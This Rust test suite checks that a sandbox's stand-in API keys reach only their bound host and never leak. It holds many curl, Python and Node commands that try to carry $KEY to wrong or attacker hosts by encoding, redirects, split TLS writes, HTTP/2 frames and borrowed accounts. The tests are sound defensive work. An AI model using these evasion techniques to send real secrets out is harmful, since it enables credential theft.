//! Stand-ins that are sent where they do not belong: to other hosts, by redirects, in pieces, with others (rows 85 to 88).

use serde_json::{Value, json};

use crate::secrets::{Setup, Told, Upstream, have, upstream};

/// A sandbox whose `$KEY` is bound to one host and that may reach others.
fn bound(upstream: &Upstream, host: &str, others: &[&str]) -> Setup {
    Setup::new(upstream, others).secret("KEY", upstream.key("anthropic"), &[host])
}

/// What the report says of refusals at this host.
fn refusals(told: &Told, host: &str) -> Vec<String> {
    let all = told.report["network"].as_array().cloned().unwrap_or_default();
    let refused = all.iter().filter(|one| one["host"] == host && one["allowed"] == false);
    refused.filter_map(|one| one["reason"].as_str().map(str::to_owned)).collect()
}

/// The status that curl got, and what it printed.
const CURL: &str = "curl -sS -w '\\n%{http_code}\\n'";

#[test]
#[kennel_claim::claim("secrets/stand-ins-go-to-their-host")]
fn a_stand_in_for_another_host_is_refused_wherever_it_is_put() {
    let Some(upstream) = upstream() else { return };
    if !have(&["curl", "python3"]) {
        return;
    }
    let host = "wrong-host.web.test";
    let setup = bound(upstream, "right-host.web.test", &[host]).set("network.terminate", json!([host]));
    let quoted = r#"$(printf %s "$KEY" | od -An -v -tx1 | tr -d '\n' | sed 's/ /%/g')"#;
    let ways = [
        ("field", r#"-H "x-api-key: $KEY""#, ""),
        ("bearer", r#"-H "Authorization: Bearer $KEY""#, ""),
        ("inside a field", r#"-H "Cookie: a=1; session=$KEY; b=2""#, ""),
        ("password", r#"-u "x:$KEY""#, ""),
        ("user", r#"-u "$KEY:x""#, ""),
        ("base64", r#"-H "X-Data: $(printf 'x%s' "$KEY" | base64 -w0)""#, ""),
        ("path", "", "/a/$KEY/b"),
        ("query", "", "?key=$KEY"),
        ("percent", "", &format!("?key={quoted}")),
        ("body", r#"-d "key=$KEY""#, ""),
        ("body in JSON", r#"-H 'content-type: application/json' -d "{\"key\":\"$KEY\"}""#, ""),
        ("body in base64", r#"-d "$(printf 'xy%s-' "$KEY" | base64 -w0)""#, ""),
        ("body in percent", &format!(r#"-d "key={quoted}""#), ""),
        ("chunked body", r#"-H 'Transfer-Encoding: chunked' -d "key=$KEY""#, ""),
        ("form", r#"-F "key=$KEY""#, ""),
    ];
    for version in ["--http1.1", "--http2"] {
        for scheme in ["https", "http"] {
            let script: String = ways
                .iter()
                .map(|(_, flags, path)| {
                    format!("{CURL} {version} {flags} \"{scheme}://{host}/hello{path}\"\n")
                })
                .collect();
            let told = setup.sh(&format!("printenv KEY >&2\n{script}"));
            let stand_in = told
                .ran
                .stderr
                .lines()
                .find(|line| line.starts_with("sk-ant-"))
                .unwrap_or_default()
                .to_owned();
            assert!(stand_in.len() > 40, "{told:#?}");
            let statuses: Vec<&str> =
                told.ran.stdout.lines().filter(|line| line.parse::<u16>().is_ok()).collect();
            for ((way, ..), status) in ways.iter().zip(&statuses) {
                assert_eq!(*status, "403", "{way}, {version}, {scheme}: {told:#?}");
            }
            assert_eq!(statuses.len(), ways.len(), "{told:#?}");
            assert!(told.ran.stdout.contains("KEY"), "it is named: {told:#?}");
            let told_of = refusals(&told, host);
            assert!(
                told_of.iter().any(|reason| reason.contains("KEY")),
                "it is recorded: {told_of:?} {}",
                told.text
            );
            assert_eq!(upstream.requests(&stand_in), Vec::<Value>::new(), "it left");
            assert!(!told.text.contains(&stand_in), "the report holds no stand-in: {}", told.text);
        }
    }
}

#[test]
#[kennel_claim::claim("secrets/redirections-carry-no-key")]
fn row_85_a_redirect_carries_no_secret_to_another_host() {
    let Some(upstream) = upstream() else { return };
    if !have(&["curl"]) {
        return;
    }
    let (from, to) = ("redirects.web.test", "redirected-to.web.test");
    let setup = bound(upstream, from, &[to]).set("network.terminate", json!([to]));
    for status in [301, 302, 303, 307, 308] {
        let ask = format!(
            r#"-H "x-api-key: $KEY" 'https://{from}/moved?status={status}&to=https://{to}/hello-{status}'"#
        );
        // The gate follows none; a client that does takes its fields along, other than Authorization.
        let told = setup.sh(&format!("{CURL} -o /dev/null {ask}; {CURL} -L {ask}"));
        assert!(told.ran.stdout.trim().starts_with(&status.to_string()), "{told:#?}");
        assert!(told.ran.stdout.trim().ends_with("403"), "{told:#?}");
        assert_eq!(
            upstream.requests(&format!("/hello-{status}")).iter().filter(|one| one["host"] == to).count(),
            0,
            "{told:#?}"
        );
    }
    let seen = upstream.requests(from);
    assert!(
        seen.iter().all(|request| request["host"] == from && request["real"] == "anthropic"),
        "{seen:#?}"
    );
}

#[test]
#[kennel_claim::claim("secrets/redirections-carry-no-key")]
fn row_86_a_stand_in_by_opaque_tls_is_worth_nothing() {
    let Some(upstream) = upstream() else { return };
    if !have(&["curl"]) {
        return;
    }
    // A host that is allowed and not terminated: what it gets is no key.
    let host = "opaque.web.test";
    let setup = bound(upstream, "right-opaque.web.test", &[host]);
    let ca = upstream.authority().display().to_string();
    let told = setup.sh(&format!(r#"{CURL} --cacert {ca} -H "x-api-key: $KEY" https://{host}/hello"#));
    let seen = upstream.requests(host);
    assert!(seen.iter().all(|request| request["real"].is_null()), "{told:#?} {seen:#?}");
}

/// Speaks TLS by itself, and sends a request in pieces.
const PIECES: &str = r#"
import os, socket, ssl, sys
host, size = sys.argv[1], int(sys.argv[2])
context = ssl.create_default_context()
raw = socket.create_connection((host, 443))
raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
stream = context.wrap_socket(raw, server_hostname=host)
key = os.environ["KEY"]
body = "before " + key + " after"
request = ("POST /hello HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nX-Again: %s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s"
           % (host, key, key, len(body), body)).encode()
# Each write is a TLS record of its own, and a packet. Who is refused may be told so before the end.
answer = b""
try:
    for at in range(0, len(request), size):
        stream.sendall(request[at:at + size])
except OSError:
    answer = b"closed\r\n"
try:
    while piece := stream.recv(65536):
        answer = answer.replace(b"closed\r\n", b"") + piece
except OSError:
    answer = answer or b"closed\r\n"
print(answer.split(b"\r\n")[0].decode())
"#;

#[test]
#[kennel_claim::claim("secrets/stand-ins-go-to-their-host")]
fn row_87_a_stand_in_split_over_reads_is_found_and_swapped() {
    let Some(upstream) = upstream() else { return };
    let Some(python) = kennel_tests::world::python() else {
        return kennel_tests::skipped("python3 is not installed");
    };
    let python = python.display().to_string();
    let (right, wrong) = ("split.web.test", "split-wrong.web.test");
    let setup = bound(upstream, right, &[wrong])
        .set("network.terminate", json!([wrong]))
        .set("secrets.KEY.body", json!(true));
    for size in ["1", "5", "60", "200"] {
        let told = setup.run(&[&python, "-c", PIECES, right, size]).ok();
        assert_eq!(told.ran.stdout, "HTTP/1.1 200 OK\n", "{size}: {told:#?}");
        let told = setup.run(&[&python, "-c", PIECES, wrong, size]);
        let refused = told.ran.stdout.starts_with("HTTP/1.1 403 ") || told.ran.stdout == "closed\n";
        assert!(refused, "{size}: {told:#?}");
        assert!(refusals(&told, wrong).iter().any(|reason| reason.contains("KEY")), "{size}: {told:#?}");
    }
    let real = upstream.key("anthropic");
    let seen = upstream.requests(right);
    assert_eq!(seen.len(), 4, "{seen:#?}");
    for request in &seen {
        assert_eq!(request["fields"]["authorization"], format!("Bearer {real}"), "{request:#}");
        assert_eq!(request["fields"]["x-again"], real, "{request:#}");
        assert_eq!(request["body"], format!("before {real} after"), "{request:#}");
    }
    assert_eq!(upstream.requests(wrong), Vec::<Value>::new());
}

/// HTTP/2 with a head so long that it needs CONTINUATION frames, and a body in single bytes.
const FRAMES: &str = r#"
const http2 = require("node:http2");
const [host] = process.argv.slice(1);
const key = process.env.KEY;
const client = http2.connect(`https://${host}`);
client.on("error", (error) => { console.log(`error ${error.message}`); process.exit(1); });
const fields = { ":path": "/hello", ":method": "POST" };
for (let at = 0; at < 6; at++) fields[`x-filler-${at}`] = "f".repeat(5000 + at);
fields.authorization = `Bearer ${key}`;
const stream = client.request(fields);
stream.on("response", (head) => console.log(head[":status"]));
stream.on("error", (error) => console.log(`error ${error.message}`));
stream.on("data", () => {});
stream.on("close", () => client.close());
const body = `before ${key} after`;
let at = 0;
const next = () => { if (at < body.length) stream.write(body[at++], () => setImmediate(next)); else stream.end(); };
next();
"#;

#[test]
#[kennel_claim::claim("secrets/stand-ins-go-to-their-host")]
fn row_87_a_stand_in_split_over_frames_of_http_2_is_found_and_swapped() {
    let Some(upstream) = upstream() else { return };
    if !have(&["node"]) {
        return;
    }
    let (right, wrong) = ("frames.web.test", "frames-wrong.web.test");
    let setup = bound(upstream, right, &[wrong])
        .set("network.terminate", json!([wrong]))
        .set("secrets.KEY.body", json!(true));
    let told = setup.run(&["node", "-e", FRAMES, right]).ok();
    assert_eq!(told.ran.stdout, "200\n", "{told:#?}");
    let told = setup.run(&["node", "-e", FRAMES, wrong]);
    assert!(told.ran.stdout.starts_with("403"), "{told:#?}");
    let real = upstream.key("anthropic");
    let seen = upstream.requests(right);
    assert_eq!(seen[0]["body"], format!("before {real} after"), "{seen:#?}");
    assert_eq!(seen[0]["fields"]["authorization"], format!("Bearer {real}"));
    assert_eq!(upstream.requests(wrong), Vec::<Value>::new());
}

#[test]
#[kennel_claim::claim("secrets/redirections-carry-no-key")]
fn row_88_a_stand_in_of_one_sandbox_is_worth_nothing_in_another() {
    let Some(upstream) = upstream() else { return };
    if !have(&["curl"]) {
        return;
    }
    let host = "another-sandbox.web.test";
    let first = bound(upstream, host, &[]);
    let stolen = first.sh("printenv KEY").ok().ran.stdout;
    let again = first.sh("printenv KEY").ok().ran.stdout;
    assert_ne!(stolen, again, "each sandbox has a stand-in of its own");
    let told = bound(upstream, host, &[])
        .sh(&format!("{CURL} -H 'x-api-key: {}' https://{host}/user", stolen.trim()));
    let seen = upstream.requests(host);
    assert!(seen.iter().all(|request| request["real"].is_null()), "{told:#?} {seen:#?}");
}

#[test]
fn basic_authentication_is_swapped_by_halves() {
    let Some(upstream) = upstream() else { return };
    if !have(&["curl"]) {
        return;
    }
    let host = "basic.web.test";
    let setup = bound(upstream, host, &[]);
    let told = setup.sh(&format!(r#"{CURL} -u "x:$KEY" https://{host}/hello; {CURL} -u "$KEY:x-oauth-basic" https://{host}/hello; {CURL} -u "$KEY:" https://{host}/hello"#)).ok();
    let seen = upstream.requests(host);
    let real = upstream.key("anthropic");
    let halves: Vec<&Value> = seen.iter().map(|request| &request["credentials"]).collect();
    let both = |user: &str, password: &str| json!([["basic user", user], ["basic password", password]]);
    assert_eq!(halves, [&both("x", real), &both(real, "x-oauth-basic"), &both(real, "")], "{told:#?}");
}

#[test]
#[kennel_claim::claim("secrets/stand-ins-go-to-their-host")]
fn two_secrets_as_user_and_password_are_refused() {
    let Some(upstream) = upstream() else { return };
    if !have(&["curl"]) {
        return;
    }
    let host = "two-secrets.web.test";
    let setup = bound(upstream, host, &[]).secret("OTHER", upstream.key("other"), &[host]);
    let told = setup.sh(&format!(
        r#"{CURL} -u "$KEY:$OTHER" https://{host}/hello; {CURL} -u "$OTHER:$KEY" https://{host}/hello"#
    ));
    let statuses: Vec<&str> = told.ran.stdout.lines().filter(|line| line.parse::<u16>().is_ok()).collect();
    assert_eq!(statuses, ["403", "403"], "{told:#?}");
    assert_eq!(upstream.requests(host), Vec::<Value>::new());
}

#[test]
#[kennel_claim::claim("secrets/keys-go-where-the-policy-says")]
fn queries_and_bodies_are_swapped_only_where_the_policy_says_so() {
    let Some(upstream) = upstream() else { return };
    if !have(&["curl"]) {
        return;
    }
    let real = upstream.key("anthropic");
    let ask = |host: &str| {
        format!(
            r#"{CURL} "https://{host}/hello?key=$KEY"
               {CURL} -d "key=$KEY&x=1" https://{host}/form
               {CURL} -H 'content-type: application/json' -d "{{\"key\":\"$KEY\"}}" https://{host}/json
               {CURL} -H 'Transfer-Encoding: chunked' -H 'content-type: text/plain' -d "<$KEY>" https://{host}/chunked
               printf %s "$KEY" | gzip -c > /tmp/z; {CURL} -H 'Content-Encoding: gzip' --data-binary @/tmp/z https://{host}/compressed-body"#
        )
    };
    let host = "no-opt-in.web.test";
    let told = bound(upstream, host, &[]).sh(&ask(host));
    let seen = upstream.requests(host);
    for request in &seen {
        upstream.assert_clean("a request without opt-in", &request.to_string());
    }
    assert!(!told.ran.stdout.is_empty());
    let host = "opted.web.test";
    let setup =
        bound(upstream, host, &[]).set("secrets.KEY.body", json!(true)).set("secrets.KEY.query", json!(true));
    let told = setup.sh(&ask(host));
    let seen = upstream.requests(host);
    let of = |path: &str| {
        seen.iter().find(|request| request["path"].as_str().is_some_and(|own| own.starts_with(path)))
    };
    assert_eq!(
        of("/hello").map(|request| &request["path"]),
        Some(&format!("/hello?key={real}").into()),
        "{told:#?}"
    );
    assert_eq!(
        of("/form").map(|request| &request["body"]),
        Some(&format!("key={real}&x=1").into()),
        "{told:#?}"
    );
    assert_eq!(
        of("/json").map(|request| &request["body"]),
        Some(&format!("{{\"key\":\"{real}\"}}").into()),
        "{told:#?}"
    );
    assert_eq!(
        of("/chunked").map(|request| &request["body"]),
        Some(&format!("<{real}>").into()),
        "{told:#?}"
    );
    assert_eq!(of("/compressed-body"), None, "a compressed body cannot be searched: {told:#?}");
    upstream.assert_clean("what came in", &told.ran.stdout);
    upstream.assert_clean("the report, addresses included", &told.text);
}

#[test]
#[kennel_claim::claim("secrets/keys-go-where-the-policy-says")]
fn a_stand_in_is_not_swapped_without_encryption() {
    let Some(upstream) = upstream() else { return };
    if !have(&["curl"]) {
        return;
    }
    let host = "plaintext.web.test";
    let setup = bound(upstream, host, &[]);
    let told = setup.sh(&format!(r#"{CURL} -H "x-api-key: $KEY" http://{host}/hello"#));
    assert!(told.ran.stdout.trim().ends_with("403"), "{told:#?}");
    assert_eq!(upstream.requests(host), Vec::<Value>::new());
    let setup = setup.set("secrets.KEY.plaintext", json!(true));
    let told = setup.sh(&format!(r#"{CURL} -H "x-api-key: $KEY" http://{host}/hello"#));
    assert!(told.ran.stdout.trim().ends_with("200"), "{told:#?}");
    assert_eq!(upstream.requests(host)[0]["real"], "anthropic");
}

#[test]
#[kennel_claim::claim("secrets/redirections-carry-no-key")]
fn an_address_gets_no_secret() {
    let Some(upstream) = upstream() else { return };
    if !have(&["curl"]) {
        return;
    }
    // The upstream's address, which is allowed and has a certificate: it proves no name.
    let address = kennel_tests::world::THERE;
    let setup = bound(upstream, "by-address.web.test", &[address]).set("network.terminate", json!([address]));
    let told = setup.sh(&format!(
        r#"{CURL} -H "x-api-key: $KEY" https://{address}/by-address-1
           {CURL} -H "x-api-key: $KEY" -H 'Host: by-address.web.test' https://{address}/by-address-2
           {CURL} -H "x-api-key: $KEY" --connect-to by-address.web.test:443:{address}:443 https://by-address.web.test/by-address-3"#
    ));
    for path in ["/by-address-1", "/by-address-2", "/by-address-3"] {
        let seen = upstream.requests(path);
        assert!(seen.iter().all(|request| request["real"].is_null()), "{path}: {told:#?} {seen:#?}");
    }
}

#[test]
#[kennel_claim::claim("secrets/keys-go-where-the-policy-says")]
fn a_bound_host_takes_no_other_credentials() {
    let Some(upstream) = upstream() else { return };
    if !have(&["curl"]) {
        return;
    }
    // An attacker's own account at an allowed host would take what the sandbox holds.
    let host = "own-account.web.test";
    let setup = bound(upstream, host, &[]);
    let told = setup.sh(&format!(
        r#"{CURL} -H 'Authorization: Bearer attackers-own' https://{host}/hello
           {CURL} -H 'x-api-key: attackers-own' https://{host}/hello
           {CURL} -u attacker:attackers-own https://{host}/hello
           {CURL} -H "x-api-key: $KEY" -H 'Authorization: Bearer attackers-own' https://{host}/hello"#
    ));
    let statuses: Vec<&str> = told.ran.stdout.lines().filter(|line| line.parse::<u16>().is_ok()).collect();
    assert_eq!(statuses, ["403"; 4], "{told:#?}");
    assert_eq!(upstream.requests(host), Vec::<Value>::new());
    // What needs no account at all is not refused.
    let told = setup.sh(&format!("{CURL} https://{host}/hello"));
    assert!(told.ran.stdout.trim().ends_with("200"), "{told:#?}");
}

#[test]
fn an_injected_secret_is_there_and_is_told_nowhere() {
    let Some(upstream) = upstream() else { return };
    let rule = json!({"from": "env:KEY", "mode": "inject"});
    let setup = Setup::new(upstream, &[]).variable("KEY", upstream.key("anthropic")).set("secrets.KEY", rule);
    let told = setup.sh("printenv KEY").ok();
    assert_eq!(told.ran.stdout.trim(), upstream.key("anthropic"));
    upstream.assert_clean("the report", &told.text);
    upstream.assert_clean("the messages", &told.ran.stderr);
}
